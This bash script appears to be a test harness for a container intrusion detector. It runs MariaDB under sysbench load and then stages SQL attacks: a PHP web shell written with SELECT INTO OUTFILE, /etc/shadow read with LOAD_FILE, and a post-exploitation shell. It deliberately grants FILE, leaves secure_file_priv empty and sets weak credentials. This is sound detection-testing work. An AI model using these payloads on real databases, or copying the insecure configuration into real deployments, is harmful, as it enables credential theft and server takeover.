#!/usr/bin/env bash
# MariaDB 10.11 (Debian's mariadbd) in a container under sysbench OLTP (read/write,
# read-only, write-only, point selects, index updates; 1-4 threads, some rate-limited), bursts
# of short client sessions (connection churn) and an administrator's periodic FLUSH LOGS /
# FLUSH TABLES / ANALYZE, with InnoDB's own background work (purge, page cleaner, checkpoints)
# and an error log rotated by the entrypoint shell. Attacks through SQL (a compromised
# application account with the FILE privilege and secure_file_priv empty, a common
# misconfiguration): SELECT ... INTO OUTFILE (a file written), LOAD_FILE('/etc/shadow') (a file
# read), and a post-exploitation shell (runc exec, docker exec or lxc-attach).
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
SRV_NAME=mariadb
need_cmd mariadbd mariadb mariadb-install-db sysbench

srv_setup() {
	local r=$1
	copy_bin "$r" "$(command -v mariadbd)"
	mkdir -p "$r/usr/share/mysql" "$r/var/lib/mysql" "$r/run/mysqld" "$r/var/log/mysql"
	cp -r /usr/share/mysql/. "$r/usr/share/mysql/"
	echo 'mysql:x:100:100::/var/lib/mysql:/bin/false' >>"$r/etc/passwd"
	mariadb-install-db --no-defaults --datadir="$r/var/lib/mysql" --user=root \
		--auth-root-authentication-method=normal --skip-test-db \
		--innodb-log-file-size=16M >"$TMP/install-db.log" 2>&1 ||
		fail "mariadb-install-db: $(tail -5 "$TMP/install-db.log")"
}

SRV_ENTRY='#!/bin/sh
mariadbd --no-defaults --user=root --datadir=/var/lib/mysql --socket=/run/mysqld/mysqld.sock \
	--bind-address=127.0.0.1 --port=3306 --skip-name-resolve --secure-file-priv= \
	--innodb-log-file-size=16M --innodb-buffer-pool-size=64M --max-connections=50 \
	--log-error=/var/log/mysql/error.log --performance-schema=OFF &
srv=$!
trap "kill $srv; wait $srv; exit 0" TERM
while :; do
	sleep 10 & wait $!
	mv /var/log/mysql/error.log /var/log/mysql/error.log.1 2>/dev/null
done'

msql() { timeout 60 nsenter -t "$CPID" -n -- mariadb -h 127.0.0.1 -P 3306 -u app -papp --connect-timeout=5 -N -B "$@"; }
srv_ready() {
	in_ns mariadb -h 127.0.0.1 -P 3306 -u root --connect-timeout=2 -N -B -e 'SELECT 1' >/dev/null 2>&1 || return 1
	# first start: the application's account and tables (idempotent)
	if ! msql -e 'SELECT 1' sbtest >/dev/null 2>&1; then
		in_ns mariadb -h 127.0.0.1 -P 3306 -u root -e "CREATE DATABASE IF NOT EXISTS sbtest;
			CREATE USER IF NOT EXISTS app@'%' IDENTIFIED BY 'app';
			GRANT ALL ON sbtest.* TO app@'%'; GRANT FILE ON *.* TO app@'%';" || return 1
	fi
	if [ ! -e "$ROOT/var/lib/mysql/sbtest/sbtest2.frm" ]; then
		sb oltp_read_write prepare >"$TMP/sb-prepare.log" 2>&1 || return 1
	fi
}
sb() {
	local t=$1; shift
	timeout 120 nsenter -t "$CPID" -n -- sysbench "$t" --db-driver=mysql --mysql-host=127.0.0.1 --mysql-port=3306 \
		--mysql-user=app --mysql-password=app --mysql-db=sbtest --tables=2 --table-size=2000 "$@"
}
srv_probe() { [ "$(msql -e 'SELECT COUNT(*) > 0 FROM sbtest1' sbtest)" = 1 ]; }

SB_TESTS=(oltp_read_write oltp_read_write oltp_read_only oltp_write_only oltp_point_select
	oltp_update_index oltp_insert oltp_delete)
srv_load_round() {
	local t out q i ok=0 bad=0 extra=()
	case $(rnd 6) in
	0) # the administrator's jobs
		if msql sbtest -e 'FLUSH LOGS; FLUSH TABLES; ANALYZE TABLE sbtest1; SHOW STATUS LIKE "Threads%";
			SELECT COUNT(*) FROM sbtest2;' >/dev/null 2>&1; then ok=1; else bad=1; fi
		;;
	1) # connection churn: short client sessions of one query or update each (sysbench 1.0.20,
		# Debian 12's, has no --reconnect)
		for ((i = 10 + $(rnd 20); i > 0; i--)); do
			if [ $(rnd 3) = 0 ]; then
				q="UPDATE sbtest2 SET k = k + 1 WHERE id = $((1 + $(rnd 2000)))"
			else
				q="SELECT c FROM sbtest1 WHERE id = $((1 + $(rnd 2000)))"
			fi
			if msql sbtest -e "$q" >/dev/null 2>&1; then ok=$((ok + 1)); else bad=$((bad + 1)); fi
		done
		;;
	*)
		t=${SB_TESTS[$(rnd ${#SB_TESTS[@]})]}
		[ $(rnd 3) = 0 ] && extra+=(--rate=$((20 + $(rnd 100))))
		# sysbench retries deadlocks and lock wait timeouts by itself ("ignored errors": normal
		# OLTP contention); any other error ends the run with a failure
		if out=$(sb "$t" --threads=$((1 + $(rnd 4))) --time=$((2 + $(rnd 4))) "${extra[@]}" run 2>&1); then
			ok=$(sed -n 's/^ *total: *\([0-9]*\)$/\1/p' <<<"$out" | head -1)
		fi
		[ -n "$ok" ] && [ "$ok" != 0 ] || { ok=0; bad=1; echo "$out" | tail -5 >&2; }
		;;
	esac
	echo "ok $ok fail $bad"
}

SRV_ATTACKS="into_outfile load_file post_shell"

srv_attack_into_outfile() {
	rm -f "$ROOT/tmp/cids-dump.txt"
	msql sbtest -e "SELECT '<?php system(\$_GET[c]); ?>' INTO OUTFILE '/tmp/cids-dump.txt'"
}
srv_effect_into_outfile() { grep -q php "$ROOT/tmp/cids-dump.txt"; }

srv_attack_load_file() { msql sbtest -e "SELECT LOAD_FILE('/etc/shadow')" >"$TMP/load_file.out"; }
srv_effect_load_file() { grep -q 'root:' "$TMP/load_file.out"; }

srv_attack_post_shell() {
	rm -f "$ROOT/tmp/post-ok"
	ctr_exec /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /var/lib/mysql; ps;
		echo pwned > /tmp/post-ok'
}
srv_effect_post_shell() { [ -e "$ROOT/tmp/post-ok" ]; }

[ "${BASH_SOURCE[0]}" = "$0" ] && srv_main
